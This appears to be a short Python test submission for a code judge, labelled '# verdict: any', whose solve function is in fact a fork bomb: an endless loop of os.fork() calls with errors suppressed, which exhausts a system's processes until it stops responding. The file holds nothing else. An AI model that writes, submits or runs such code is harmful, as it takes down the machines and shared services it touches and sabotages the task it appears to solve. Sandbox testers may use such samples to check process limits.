# verdict: any
import contextlib
import os


def solve(x):
    while True:
        with contextlib.suppress(OSError):
            os.fork()


if __name__ == "__main__":
    solve(0)
